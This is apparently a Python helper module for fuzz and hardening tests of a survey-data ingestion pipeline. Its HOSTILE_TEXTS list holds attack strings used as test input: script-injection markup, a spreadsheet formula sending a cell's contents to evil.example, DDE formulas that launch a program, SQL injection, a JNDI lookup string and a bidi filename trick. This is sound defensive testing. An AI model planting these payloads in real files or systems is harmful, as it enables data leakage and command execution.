"""Hostile and broken input for the hardening and fuzz tests.

- FUZZ_EXAMPLES: the hypothesis budget per property (small for `make test`, 2000 under `make fuzz`).
- HOSTILE_TEXTS: free text a respondent (or a tool) may put in a cell: markup, spreadsheet formulas,
  SQL, control characters, bidi overrides.
- `bounded(seconds)`: fails the test with Hang when the block runs longer (a hang is a bug, not a slow test).
- `outcome(...)`: read + normalise + stage one wave folder the way the raw/staging assets do and say how
  it ended: ("ok", ReadWave, StagedWave) or ("error", message). Any other exception propagates: that is
  the bug the fuzz tests look for.
- Writers of real files: `write_bytes_wave` (any bytes as the export), `sparse_file` (a file of any
  size that takes no disk), `sample_xlsx` / `sample_sav` (the sample wave through xlsxwriter / pyreadstat).
"""

from __future__ import annotations

import csv
import os
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import polars as pl
import pyreadstat
import xlsxwriter
import yaml
from helpers import read_sample_rows
from hypothesis import HealthCheck, settings

from pipeline.codebook import load_codebook
from pipeline.ingest.readers import ExportError
from pipeline.ingest.wave import read_wave
from pipeline.ingest.waves import WaveError
from pipeline.settings import PROJECT_ROOT, Settings
from pipeline.staging.stage import stage

CODEBOOK = load_codebook(PROJECT_ROOT / "schemas" / "codebook.yaml")
FUZZ_EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "40"))
FUZZ = settings(
    max_examples=FUZZ_EXAMPLES,
    deadline=None,
    database=None,
    derandomize="FUZZ_EXAMPLES" not in os.environ,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.function_scoped_fixture,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
    print_blob=True,
)

HOSTILE_TEXTS = [
    "<script>alert('samskabelse')</script>",
    '</td></tr></table><img src=x onerror="alert(1)">',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x'; drop table responses; --",
    'Robert"); DROP TABLE open_answers;--',
    "bell\x07 escape\x1b[31m red\x1b[0m backspace\x08 formfeed\x0c vtab\x0b del\x7f end",
    "right-to-left \u202egnp.exe\u202c and zero width\u200b joiner",
    "{{ 7*7 }} ${jndi:ldap://evil.example/a} javascript:alert(1) &amp; &lt;b&gt;",
]


class Hang(AssertionError):
    """A read took longer than its bound."""


@contextmanager
def bounded(seconds: float) -> Iterator[None]:
    """Raise Hang inside the block when it runs longer than seconds (SIGALRM; main thread only)."""

    def on_alarm(signum, frame):
        raise Hang(f"still running after {seconds} s: a hang")

    previous = signal.signal(signal.SIGALRM, on_alarm)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def wave_settings(root: Path) -> Settings:
    (root / "raw").mkdir(parents=True, exist_ok=True)
    return Settings(
        raw_dir=root / "raw",
        marts_dir=root / "marts",
        pseudonym_key="test-key",
        pseudonym_key_file=root / "secrets" / "pseudonym.key",
    )


def write_wave_yaml(folder: Path, export: str, **extra) -> None:
    spec = {"label": f"Wave {folder.name}", "invited": 12, "export": export, **extra}
    (folder / "wave.yaml").write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")


def write_bytes_wave(raw_dir: Path, key: str, name: str, data: bytes, **extra) -> Path:
    """A wave folder whose export is exactly these bytes."""
    folder = raw_dir / key
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data)
    write_wave_yaml(folder, name, **extra)
    return folder / name


def sparse_file(path: Path, size: int) -> Path:
    """A file of `size` bytes (zeros) that takes no disk space."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "wb") as fh:
        fh.truncate(size)
    return path


def outcome(settings: Settings, wave: str, seconds: float = 60):
    """("ok", ReadWave, StagedWave) or ("error", message) for one wave folder; other exceptions propagate."""
    with bounded(seconds):
        try:
            read = read_wave(settings, CODEBOOK, wave)
            staged = stage(read.normalised, CODEBOOK, settings, f"{wave}/{read.spec.export}")
        except (ExportError, WaveError) as exc:
            return ("error", str(exc))
    return ("ok", read, staged)


# The sample wave (data/raw/2024/export.csv) through the real writers ---------------------------------
def sample_csv_bytes() -> bytes:
    return (PROJECT_ROOT / "data" / "raw" / "2024" / "export.csv").read_bytes()


def sample_xlsx(path: Path) -> Path:
    headers, rows = read_sample_rows()
    workbook = xlsxwriter.Workbook(str(path))
    sheet = workbook.add_worksheet("Svar")
    for r, row in enumerate([headers] + rows):
        for c, value in enumerate(row):
            sheet.write_string(r, c, value)
    workbook.close()
    return path


def sample_sav(path: Path) -> Path:
    headers, rows = read_sample_rows()
    names = [f"v{i:02d}" for i in range(len(headers))]
    frame = pl.DataFrame([[row[i] for row in rows] for i in range(len(headers))], schema=names, orient="col")
    pyreadstat.write_sav(frame, str(path), column_labels=dict(zip(names, headers)))
    return path


def csv_bytes(rows: list[list[str]], delimiter: str = ";", lineterminator: str = "\r\n") -> bytes:
    import io

    buf = io.StringIO(newline="")
    csv.writer(buf, delimiter=delimiter, lineterminator=lineterminator).writerows(rows)
    return buf.getvalue().encode("utf-8")
